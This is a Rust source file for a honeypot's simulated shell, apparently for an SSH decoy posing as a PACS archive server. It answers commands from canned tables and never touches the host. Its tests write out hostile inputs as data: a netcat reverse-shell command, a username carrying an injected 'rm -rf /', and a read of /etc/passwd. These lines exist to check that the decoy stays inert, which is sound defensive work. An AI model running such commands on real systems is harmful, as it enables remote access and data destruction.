//! The fake shell: answers a command line from the personality's command table and
//! file tree. Pure: no process is started, no file is read or written, input is
//! never used as a path on this host.

use super::personality::ShellLook;

/// Longest command line kept (longer input is cut).
pub const MAX_LINE: usize = 4096;

/// Per-session shell state.
#[derive(Debug, Clone)]
pub struct ShellState {
    pub user: String,
    pub cwd: String,
}

impl ShellState {
    /// A fresh login of `user` (in its home directory).
    pub fn login(user: &str) -> Self {
        let clean: String = user.chars().filter(|c| c.is_ascii_alphanumeric() || "._-".contains(*c)).take(32).collect();
        let user = if clean.is_empty() { "user".to_string() } else { clean };
        let cwd = if user == "root" { "/root".to_string() } else { format!("/home/{user}") };
        ShellState { user, cwd }
    }

    /// The prompt, bash-style.
    pub fn prompt(&self, look: &ShellLook) -> String {
        let home = if self.user == "root" { "/root".to_string() } else { format!("/home/{}", self.user) };
        let shown = match self.cwd.strip_prefix(&home) {
            Some(rest) => format!("~{rest}"),
            None => self.cwd.clone(),
        };
        let sigil = if self.user == "root" { '#' } else { '$' };
        format!("{}@{}:{}{} ", self.user, look.hostname, shown, sigil)
    }
}

/// What running a line produced.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    pub output: String,
    pub exit: bool,
}

/// Resolves `path` against `cwd` into a normalised absolute path (a string only).
fn resolve(cwd: &str, path: &str) -> String {
    let joined = if path.starts_with('/') { path.to_string() } else { format!("{cwd}/{path}") };
    let mut parts: Vec<&str> = Vec::new();
    for p in joined.split('/') {
        match p {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    format!("/{}", parts.join("/"))
}

fn is_dir(look: &ShellLook, state: &ShellState, path: &str) -> bool {
    let home = ShellState::login(&state.user).cwd;
    path == "/" || path == home || path.starts_with("/home") && path.matches('/').count() <= 2 || look.files.keys().any(|f| f.starts_with(&format!("{path}/")))
}

fn list(look: &ShellLook, dir: &str, long: bool, all: bool) -> String {
    let prefix = if dir == "/" { "/".to_string() } else { format!("{dir}/") };
    let mut names: Vec<(String, bool, usize)> = Vec::new();
    for (path, content) in &look.files {
        if let Some(rest) = path.strip_prefix(&prefix) {
            let (name, is_dir) = match rest.split_once('/') {
                Some((d, _)) => (d.to_string(), true),
                None => (rest.to_string(), false),
            };
            if !names.iter().any(|(n, _, _)| *n == name) {
                names.push((name, is_dir, content.len()));
            }
        }
    }
    if all {
        names.insert(0, ("..".into(), true, 4096));
        names.insert(0, (".".into(), true, 4096));
    }
    if !long {
        let visible: Vec<&str> = names.iter().map(|(n, _, _)| n.as_str()).collect();
        return if visible.is_empty() { String::new() } else { format!("{}\n", visible.join("  ")) };
    }
    let mut out = format!("total {}\n", names.len() * 4);
    for (name, is_dir, size) in names {
        let (mode, links, size) = if is_dir { ("drwxr-xr-x", 2, 4096) } else { ("-rw-r--r--", 1, size) };
        out.push_str(&format!("{mode} {links} root root {size:>5} Nov 20 09:14 {name}\n"));
    }
    out
}

fn id_line(user: &str) -> String {
    match user {
        "root" => "uid=0(root) gid=0(root) groups=0(root)".into(),
        u => format!("uid=1001({u}) gid=1001({u}) groups=1001({u}),27(sudo)"),
    }
}

/// Runs one command (no `;`).
fn run_one(cmd: &str, state: &mut ShellState, look: &ShellLook) -> Outcome {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let Some(&program) = words.first() else { return Outcome::default() };
    let args = &words[1..];
    let text = |s: String| Outcome { output: s, exit: false };
    if let Some(canned) = look.commands.get(&words.join(" ")) {
        return text(canned.clone());
    }
    match program {
        "exit" | "logout" => Outcome { output: String::new(), exit: true },
        "pwd" => text(format!("{}\n", state.cwd)),
        "whoami" => text(format!("{}\n", state.user)),
        "id" => text(format!("{}\n", id_line(&state.user))),
        "hostname" => text(format!("{}\n", look.hostname)),
        "uname" if args.contains(&"-a") => text(format!("{}\n", look.uname)),
        "uname" => text("Linux\n".into()),
        "echo" => text(format!("{}\n", args.join(" "))),
        "cd" => {
            let target = resolve(&state.cwd, args.first().copied().unwrap_or("~").replace('~', &ShellState::login(&state.user).cwd).as_str());
            if is_dir(look, state, &target) {
                state.cwd = target;
                text(String::new())
            } else {
                text(format!("-bash: cd: {}: No such file or directory\n", args.first().copied().unwrap_or("")))
            }
        }
        "ls" => {
            let flags: String = args.iter().filter(|a| a.starts_with('-')).map(|a| a.trim_start_matches('-')).collect();
            let target = args.iter().find(|a| !a.starts_with('-')).map(|p| resolve(&state.cwd, p)).unwrap_or_else(|| state.cwd.clone());
            if look.files.contains_key(&target) {
                text(format!("{}\n", args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("")))
            } else if is_dir(look, state, &target) {
                text(list(look, &target, flags.contains('l'), flags.contains('a')))
            } else {
                text(format!("ls: cannot access '{}': No such file or directory\n", args.last().copied().unwrap_or("")))
            }
        }
        "cat" => {
            let mut out = String::new();
            for a in args.iter().filter(|a| !a.starts_with('-')) {
                let path = resolve(&state.cwd, a);
                match look.files.get(&path) {
                    Some(content) => out.push_str(content),
                    None if is_dir(look, state, &path) => out.push_str(&format!("cat: {a}: Is a directory\n")),
                    None => out.push_str(&format!("cat: {a}: No such file or directory\n")),
                }
            }
            text(out)
        }
        other => text(format!("-bash: {other}: command not found\n")),
    }
}

/// Runs a command line (`;`-separated commands), as `bash -c` would answer it.
pub fn run_line(line: &str, state: &mut ShellState, look: &ShellLook) -> Outcome {
    let mut all = Outcome::default();
    for cmd in line.split(';') {
        let o = run_one(cmd.trim(), state, look);
        all.output.push_str(&o.output);
        if o.exit {
            all.exit = true;
            break;
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoy::ssh::SshPersonality;

    fn look() -> ShellLook {
        SshPersonality::built_in("openssh-debian12").unwrap().unwrap().shell
    }

    #[test]
    fn table_of_commands() {
        let look = look();
        let mut s = ShellState::login("radadmin");
        let cases: &[(&str, &str)] = &[
            ("whoami", "radadmin\n"),
            ("pwd", "/home/radadmin\n"),
            ("id", "uid=1001(radadmin) gid=1001(radadmin) groups=1001(radadmin),27(sudo)\n"),
            ("hostname", "pacs-archive01\n"),
            ("nc -e /bin/sh 10.0.0.1 4444", "-bash: nc: command not found\n"),
            ("cat /etc/nonexistent", "cat: /etc/nonexistent: No such file or directory\n"),
            ("cd /opt/pacs; pwd", "/opt/pacs\n"),
            ("ls", "conf\n"),
        ];
        for (line, want) in cases {
            assert_eq!(run_line(line, &mut s, &look).output, *want, "{line}");
        }
        assert!(run_line("cat /etc/passwd", &mut s, &look).output.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
        assert!(run_line("uname -a", &mut s, &look).output.contains("Debian"));
        assert!(run_line("ls -la /etc", &mut s, &look).output.contains(" passwd\n"));
        assert!(run_line("exit", &mut s, &look).exit);
        assert_eq!(s.prompt(&look), "radadmin@pacs-archive01:/opt/pacs$ ");
    }

    #[test]
    fn paths_are_strings_only_and_never_escape() {
        assert_eq!(resolve("/home/a", "../../../../etc/passwd"), "/etc/passwd");
        assert_eq!(resolve("/", "./x/../y"), "/y");
        let s = ShellState::login("../../etc;rm -rf /");
        assert_eq!(s.user, "....etcrm-rf");
    }
}
